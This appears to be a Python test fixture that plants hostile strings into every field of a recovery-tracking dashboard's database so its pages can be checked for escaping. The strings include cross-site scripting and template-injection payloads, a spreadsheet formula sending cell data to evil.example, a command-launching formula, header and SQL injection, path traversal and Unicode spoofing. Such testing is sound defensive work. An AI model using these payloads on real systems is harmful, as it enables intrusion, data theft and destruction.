"""Hostile texts, and a database that has them in every field that messages and operators can set."""

import json
from contextlib import closing
from urllib.parse import urlencode

import psycopg2

PLAIN = "harmless"
SCRIPTS = {
    "script": "<script>window.pwned=1</script>",
    "attribute": '"><img src=x onerror=window.pwned=1>',
    "single quote": "'><svg/onload=window.pwned=1>",
    "end of title": "</title></textarea></style><script>window.pwned=1</script>",
    "link": "javascript:window.pwned=1",
    "template": "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "htmx": '<div hx-get="/logout" hx-trigger="load" data-hx-on:load="window.pwned=1">',
    "entities": "&lt;script&gt;window.pwned=1&#60;/script&#62;",
    "event attribute": '" autofocus onfocus="window.pwned=1" x="',
    "unclosed comment": "<!-- <b",
}
OTHERS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "reversed": "invoice\u202egpj.exe",
    "isolates": "\u2067abc\u2066",
    "no width": "a\u200bb\ufeffc",
    "control": "a\x1b[31mred\x07\x7f",
    "lines": "one\r\nSet-Cookie: a=b\n\n<h1>two",
    "path": "../../../etc/passwd%2f..%2f",
    "query": "a&id=b#c?d=e",
    "sql": "'; DROP TABLE orca.recovery_job; --",
    "wide": "日本語 👩‍👩‍👧 ﷽",
    "combining": "Z" + "\u0353\u0309" * 60,
    "blank": " ",
    "long": "w" * 600,
}
HOSTILE = SCRIPTS | OTHERS
LONGEST = "error " * 4_000
"""For fields without a limit."""


def plant(database_url: str, text: str) -> list[str]:
    """Put the text into every field.  Returns the paths of all pages that show it.

    Only what the database can hold: NUL and lone surrogates reach no table.
    """
    with closing(psycopg2.connect(database_url)) as connection:
        connection.autocommit = True
        with connection.cursor() as cursor:
            cursor.execute("SET search_path = orca")
            _recovery(cursor, text)
            job = _comparison(cursor, text)
            action = _steering(cursor, text)
    name = urlencode({"id": text})
    return [
        "/",
        "/recoveries",
        f"/recoveries?{urlencode({'q': text})}",
        f"/recoveries?{urlencode({'collection': text, 'bucket': text})}",
        f"/recoveries/job?{name}",
        f"/recoveries/job?{name}&{urlencode({'granule': text})}",
        f"/recoveries/job?{name}&status=failed",
        "/failures",
        "/dead-letters",
        f"/dead-letters?{urlencode({'q': text, 'queue': text, 'state': text})}",
        f"/dead-letters/letter?{name}",
        "/reconciliation",
        f"/reconciliation?{urlencode({'bucket': text, 'status': text})}",
        *(f"/reconciliation/job?id={job}&kind={kind}" for kind in ("phantom", "orphan", "mismatch")),
        f"/reconciliation/job?id={job}&kind=phantom&{urlencode({'q': text, 'collection': text})}",
        "/exports",
        f"/exports/table?{urlencode({'name': text})}",
        "/actions",
        f"/actions?{urlencode({'who': text, 'what': text})}",
        f"/actions/action?id={action}",
    ]


def _recovery(cursor: "psycopg2.extensions.cursor", text: str) -> None:
    cursor.execute(
        "INSERT INTO recovery_job VALUES (%(t)s, %(t)s, %(t)s, %(t)s, 3, now(), now())"
        " ON CONFLICT DO NOTHING",
        {"t": text},
    )
    cursor.execute(
        "INSERT INTO recovery_file"
        " VALUES (%(t)s, %(t)s, %(t)s, %(t)s, %(t)s, NULL, %(t)s, 3, %(e)s, now(), now(), now())"
        " ON CONFLICT DO NOTHING",
        {"t": text, "e": text if len(text) < 600 else LONGEST},
    )
    cursor.execute(
        "INSERT INTO orca_daemon_restore VALUES"
        " (%(t)s, %(t)s, %(t)s, %(t)s, %(t)s, %(t)s, 1, 'ask', %(t)s, now(), NULL, NULL, %(t)s, %(t)s)"
        " ON CONFLICT DO NOTHING",
        {"t": text},
    )


def _comparison(cursor: "psycopg2.extensions.cursor", text: str) -> int:
    cursor.execute(
        "INSERT INTO reconcile_job"
        " (orca_archive_location, status_id, inventory_creation_time, start_time, last_update, end_time,"
        " error_message)"
        " VALUES (%(t)s, 5, now(), now(), now(), now(), %(t)s) RETURNING id",
        {"t": text},
    )
    (job,) = cursor.fetchone() or (0,)
    values = {"t": text, "job": job}
    cursor.execute(
        "INSERT INTO reconcile_phantom_report"
        " VALUES (%(job)s, %(t)s, %(t)s, %(t)s, %(t)s, %(t)s, now(), 1, 1)",
        values,
    )
    cursor.execute(
        "INSERT INTO reconcile_orphan_report VALUES (%(job)s, %(t)s, %(t)s, now(), 1, %(t)s)", values
    )
    cursor.execute(
        "INSERT INTO reconcile_catalog_mismatch_report"
        " VALUES (%(job)s, %(t)s, %(t)s, %(t)s, %(t)s, %(t)s, %(t)s, %(t)s, now(), now(), 1, 2, 1,"
        " %(t)s, %(t)s)",
        values,
    )
    return int(job)


def _steering(cursor: "psycopg2.extensions.cursor", text: str) -> str:
    facts = json.dumps({text: text, "number": 1})
    cursor.execute(
        "INSERT INTO orca_daemon_dead_letter"
        " (id, original_id, queue, group_id, reason, error_type, facts, dead_lettered_at)"
        " VALUES (%(t)s, %(t)s, %(t)s, %(t)s, %(e)s, %(t)s, %(f)s, now()) ON CONFLICT DO NOTHING",
        {"t": text, "e": text, "f": facts},
    )
    cursor.execute(
        "INSERT INTO orca_daemon_action"
        " (id, at, who, what, filter, wanted, done, seen_at, finished_at, error_message, result)"
        " VALUES (gen_random_uuid(), now(), %(t)s, %(t)s, %(f)s, 1, 1, now(), now(), %(t)s, %(f)s)"
        " RETURNING id",
        {"t": text, "f": facts},
    )
    (action,) = cursor.fetchone() or ("",)
    cursor.execute(
        "INSERT INTO orca_daemon_control VALUES ('recovery', true, %(t)s, %(t)s, now())"
        " ON CONFLICT (queue) DO UPDATE SET who = %(t)s, why = %(t)s",
        {"t": text},
    )
    work = {"kind": text, "what": text, "since": text, "stage": text, "done": 1, "total": 2, "unit": text}
    state = {
        "queues": [{"name": text, "held": text, "paused_by": [text]}],
        "work": [work],
        "down": [{"dependency": text, "seconds": 1, "places": [text]}],
    }
    cursor.execute(
        "INSERT INTO orca_daemon_process VALUES (gen_random_uuid(), %(t)s, %(t)s, now(), now(), %(s)s)",
        {"t": text, "s": json.dumps(state)},
    )
    return str(action)


def unplant(database_url: str) -> None:
    """Remove what `plant` added."""
    with closing(psycopg2.connect(database_url)) as connection:
        connection.autocommit = True
        with connection.cursor() as cursor:
            cursor.execute(
                "TRUNCATE orca.recovery_file, orca.recovery_job, orca.orca_daemon_restore,"
                " orca.reconcile_phantom_report, orca.reconcile_orphan_report, orca.reconcile_job,"
                " orca.reconcile_catalog_mismatch_report, orca.orca_daemon_dead_letter,"
                " orca.orca_daemon_action, orca.orca_daemon_control, orca.orca_daemon_process"
            )
